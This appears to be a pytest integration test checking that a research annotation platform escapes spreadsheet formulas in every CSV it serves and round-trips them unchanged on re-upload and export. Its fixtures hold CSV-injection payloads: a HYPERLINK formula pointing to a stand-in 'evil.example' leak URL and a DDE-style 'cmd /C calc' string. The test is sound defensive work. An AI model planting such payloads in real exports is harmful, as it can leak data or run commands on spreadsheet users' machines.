"""Spreadsheet formulas in every CSV the platform serves, through the real server and worker.

Three workers (``ann``, ``@mallory``, ``-dash``: usernames a spreadsheet would also run) answer a batch named
``-formulas`` whose inputs and gold begin with ``=`` and ``@``, in the task frames as a browser posts them, with
answers that a spreadsheet runs (``=HYPERLINK(…)``, ``@SUM(…)``, a tab or carriage return before ``=``, ``-2+3``)
and plain numbers (``-5``, ``+3.2``). Then the researcher and the admin download the results CSV (page and API), the
agreement tables (page and API), the statistics, activity and pay CSVs and the TurkingBench export (a job of the
real worker): no cell of any of them is one a spreadsheet would run, each formula-like value is there with a leading
``'``, numbers stay numbers. The results CSV goes back with decisions (a reason typed with its ``'``) and is read as
written; uploaded again as downloaded it changes nothing; the export reads back through ``agents.turkle`` and imports
back into another project exactly as stored.
"""

import contextlib
import csv
import io
import tarfile
import time
import uuid

import lxml.html
import pytest
import requests
from django.core.management import call_command
from django.db import connection
from rest_framework.authtoken.models import Token

from agents.cells import formula_like
from agents.turkle import TaskDir
from annotation.models import Assignment, AssignmentStatus, Batch, Role
from devtools.processes import asgi_server, celery_worker, database_url
from tests.support.actors import make_user, server_password
from tests.support.forms_data import make_batch
from tests.support.site_client import Client

pytestmark = [pytest.mark.processes, pytest.mark.django_db(transaction=True)]

PASSWORD = "Formula-Passw0rd!"
TEMPLATE = '<p>${topic}: ${sentence}</p>\n<input type="text" name="short">\n<textarea name="long"></textarea>\n'
INPUTS = 'topic,sentence,Answer.short\n"=1+1","@SUM(A1)","=GOLD()"\nplain,-5,+3.2\n'
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'
ANSWERS = {
    "ann": {"short": HYPERLINK, "long": "-5"},
    "@mallory": {"short": "@SUM(1+1)*cmd|' /C calc'!A0", "long": "\t=1+1"},
    "-dash": {"short": "+3.2", "long": "-2+3\r=2"},
}
REASON = "-too short"  # typed in the Reject column as '-too short: the CSV's own escaping


@pytest.fixture
def platform(tmp_path, alpha, beta):
    """The server and a Celery worker on the test database; the people, the batch; the researcher's and the
    admin's sessions and tokens."""
    for name in ANSWERS:
        server_password(make_user(name, alpha, Role.ANNOTATOR), PASSWORD)
    rhea = server_password(make_user("rhea", alpha, Role.RESEARCHER), PASSWORD)
    ada = server_password(make_user("ada", alpha, Role.ADMIN), PASSWORD)
    batch = make_batch(alpha, template=TEMPLATE, csv_text=INPUTS, name="-formulas", assignments_per_task=3)
    env = {
        "DATABASE_URL": database_url(connection.settings_dict),
        "MEDIA_ROOT": str(tmp_path / "media"),
        "EXPORT_TMP_DIR": str(tmp_path / "exports-tmp"),
        "CELERY_QUEUE": f"formulas-{uuid.uuid4().hex[:8]}",
    }
    with contextlib.ExitStack() as stack:
        url = stack.enter_context(asgi_server(env, tmp_path / "server.log"))
        stack.enter_context(celery_worker(env, tmp_path / "worker.log"))
        people = {}
        for user in (rhea, ada):
            client = Client(url, name=user.username, token=Token.objects.create(user=user).key)
            assert client.sign_in(user.username, PASSWORD).status == 302
            people[user.username] = client
        yield url, batch, people


def work(url: str, username: str, batch: Batch) -> None:
    """``username`` accepts each task of the batch on the work page and submits it in its frame, as a browser does
    (the frame posts without the session: its token is the authority)."""
    person = Client(url, name=username)
    assert person.sign_in(username, PASSWORD).status == 302
    for _ in range(batch.tasks.count()):
        accepted = person.post(f"/work/batches/{batch.pk}/accept/")
        assert accepted.status == 302, accepted.text[:300]
        page = person.get(accepted.location)
        frame = lxml.html.document_fromstring(page.body).get_element_by_id("task-frame").get("src")
        body = "&".join(
            f"{requests.utils.quote(k)}={requests.utils.quote(v)}" for k, v in ANSWERS[username].items()
        ).encode()
        posted = Client(url).request(
            "POST", frame.split("?")[0], body, {"Content-Type": "application/x-www-form-urlencoded"}
        )
        assert posted.status == 200, posted.text[:300]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def no_formula(name: str, rows: list[list[str]]) -> None:
    running = [cell for row in rows for cell in row if formula_like(cell)]
    assert not running, f"{name}: cells a spreadsheet would run: {running}"


def download(client: Client, path: str, api=False) -> list[list[str]]:
    response = client.get(path, api=api)
    assert response.status == 200, (path, response.status, response.text[:300])
    assert response.content_type.startswith("text/csv"), path
    rows = rows_of(response.body.decode("utf-8-sig"))
    no_formula(path, rows)
    return rows


def upload_decisions(url: str, token: str, batch: Batch, data: bytes) -> dict:
    response = requests.post(
        f"{url}/api/decisions/upload/",
        headers={"Authorization": f"Token {token}"},
        data={"batch": batch.pk},
        files={"csv": ("results.csv", data, "text/csv")},
        timeout=60,
    )
    assert response.status_code == 200, response.text
    return response.json()


def export_archive(url: str, client: Client) -> tarfile.TarFile:
    body = {"project": "alpha", "format": "turkingbench", "include_gold": True}
    created = client.post_json("/api/exports/", body)
    assert created.status == 202, created.text
    job = f"/api/exports/{created.json()['id']}/"
    deadline = time.monotonic() + 180
    while (state := client.get(job, api=True).json())["status"] not in ("done", "failed", "cancelled"):
        assert time.monotonic() < deadline, state
        time.sleep(0.2)
    assert state["status"] == "done", state
    archive = client.get(f"{job}download/", api=True)
    assert archive.status == 200
    return tarfile.open(fileobj=io.BytesIO(archive.body))


def test_no_csv_the_platform_serves_has_a_cell_a_spreadsheet_would_run(platform, tmp_path):
    url, batch, people = platform
    rhea, ada = people["rhea"], people["ada"]
    for username in ANSWERS:
        work(url, username, batch)
    assert Assignment.objects.filter(task__batch=batch, status=AssignmentStatus.SUBMITTED).count() == 6

    # The results CSV, page and API: the same cells, every formula-like one with its leading '.
    page = download(rhea, f"/work/batches/{batch.pk}/results.csv")
    assert download(rhea, f"/api/batches/{batch.pk}/results/", api=True) == page
    header, rows = page[0], page[1:]
    by_worker = {}
    for row in rows:
        by_worker.setdefault(row[header.index("Turkle.Username")], []).append(dict(zip(header, row, strict=True)))
    assert set(by_worker) == {"ann", "'@mallory", "'-dash"}
    assert {row["Answer.short"] for row in by_worker["ann"]} == {"'" + HYPERLINK}
    assert {row["Answer.long"] for row in by_worker["ann"]} == {"-5"}  # a number stays a number
    assert {row["Answer.long"] for row in by_worker["'@mallory"]} == {"'\t=1+1"}
    assert {(row["Answer.short"], row["Answer.long"]) for row in by_worker["'-dash"]} == {("+3.2", "'-2+3\r=2")}
    assert sorted({row[header.index("Input.topic")] for row in rows}) == ["'=1+1", "plain"]
    assert sorted({row[header.index("Input.sentence")] for row in rows}) == ["'@SUM(A1)", "-5"]

    # Agreement tables (workers by name, majority answers), page and API.
    for table in ("fields", "workers", "tasks"):
        shown = download(rhea, f"/work/batches/{batch.pk}/agreement/{table}.csv")
        assert download(rhea, f"/api/agreement/{batch.pk}/{table}/", api=True) == shown
    workers = download(rhea, f"/work/batches/{batch.pk}/agreement/workers.csv")
    assert {"'@mallory", "'-dash"} <= {cell for row in workers for cell in row}

    # The results CSV back with decisions: Approve for ann and -dash, a reason typed with its ' for @mallory.
    decided = io.StringIO(newline="")
    out = csv.writer(decided, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    out.writerow(header)
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        if cells["Turkle.Username"] == "'@mallory":
            cells["Reject"] = "'" + REASON
        else:
            cells["Approve"] = "x"
        out.writerow([cells[column] for column in header])
    assert upload_decisions(url, rhea.token, batch, decided.getvalue().encode()) == {
        "approved": 4,
        "rejected": 2,
        "unchanged": 0,
    }
    stored = Assignment.objects.filter(task__batch=batch).select_related("worker")
    assert {a.worker.username: (a.review, a.feedback) for a in stored}["@mallory"] == ("rejected", REASON)
    assert {a.worker.username: a.answers["short"] for a in stored}["ann"] == HYPERLINK  # stored as submitted

    # Downloaded again (with the reason and statuses) and uploaded back as it is: read as written, nothing changes.
    again = rhea.get(f"/work/batches/{batch.pk}/results.csv").body
    reasons = {row[header.index("RequesterFeedback")] for row in rows_of(again.decode())[1:]}
    assert reasons == {"", "'" + REASON}
    no_formula("results CSV after decisions", rows_of(again.decode()))
    filled = rows_of(again.decode())
    for row in filled[1:]:  # the decisions taken, as a requester fills them in again: the reason as downloaded
        reason = row[header.index("RequesterFeedback")]
        row[header.index("Reject" if reason else "Approve")] = reason or "x"
    back = io.StringIO(newline="")
    csv.writer(back, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(filled)
    assert upload_decisions(url, rhea.token, batch, back.getvalue().encode()) == {
        "approved": 0,
        "rejected": 0,
        "unchanged": 6,
    }

    # Statistics, activity and pay (the admin sees everyone's): the batch's name and the usernames.
    instances = download(ada, "/projects/alpha/stats/instances_per_task.csv")
    assert ["'-formulas", "2"] in instances
    download(ada, "/projects/alpha/stats/assignments_done.csv")
    activity = download(ada, "/projects/alpha/activity.csv")
    assert "'-dash" in {cell for row in activity for cell in row}
    pay = download(ada, "/projects/alpha/pay.csv")
    assert "'-dash" in {cell for row in pay for cell in row}

    # The TurkingBench export (a job of the real worker): batch.csv escaped, read back and imported as stored.
    with export_archive(url, rhea) as archive:
        member = next(m for m in archive.getmembers() if m.name.endswith("tasks/-formulas/batch.csv"))
        archive.extractall(tmp_path / "export", filter="data")
        exported = archive.extractfile(member).read().decode("utf-8-sig")
    rows = rows_of(exported)
    no_formula("batch.csv", rows)
    assert rows[0] == ["topic", "sentence", "Answer.short", "Answer.long"]
    assert rows[1:] == [
        ["'=1+1", "'@SUM(A1)", "'=GOLD()", ""],  # the gold rows first, then approved work (rejected is left out)
        ["plain", "-5", "+3.2", ""],
        ["'=1+1", "'@SUM(A1)", "'" + HYPERLINK, "-5"],
        ["'=1+1", "'@SUM(A1)", "+3.2", "'-2+3\r=2"],
        ["plain", "-5", "'" + HYPERLINK, "-5"],
        ["plain", "-5", "+3.2", "'-2+3\r=2"],
    ]
    folder = next((tmp_path / "export").rglob("tasks/-formulas"))
    task = TaskDir.load(folder)
    assert task.inputs(0) == {"topic": "=1+1", "sentence": "@SUM(A1)"}
    assert task.gold(0)["short"] == ["=GOLD()", HYPERLINK, "+3.2"]
    assert task.gold(1)["long"][1:] == ["-5", "-2+3\r=2"]
    call_command("import_turkingbench", str(folder), project="beta", stdout=io.StringIO())
    imported = Batch.objects.get(project__name="beta", name="-formulas")
    assert [t.inputs for t in imported.tasks.order_by("index")] == [t.inputs for t in batch.tasks.order_by("index")]
    gold = [entry["answers"] for t in imported.tasks.order_by("index") for entry in t.gold]
    assert [answers["short"] for answers in gold] == ["=GOLD()", HYPERLINK, "+3.2", "+3.2", HYPERLINK, "+3.2"]
    assert [answers["long"] for answers in gold] == ["", "-5", "-2+3\r=2", "", "-5", "-2+3\r=2"]
